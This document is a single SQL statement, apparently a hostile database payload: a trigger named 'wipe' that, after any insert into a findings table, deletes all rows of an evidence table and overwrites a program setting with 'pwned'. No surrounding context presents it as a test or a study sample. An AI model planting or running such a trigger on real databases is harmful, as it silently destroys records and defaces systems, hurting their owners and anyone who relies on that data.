CREATE TRIGGER wipe AFTER INSERT ON finding_tab BEGIN DELETE FROM ev; UPDATE meta SET value = 'pwned' WHERE key = 'program'; END;
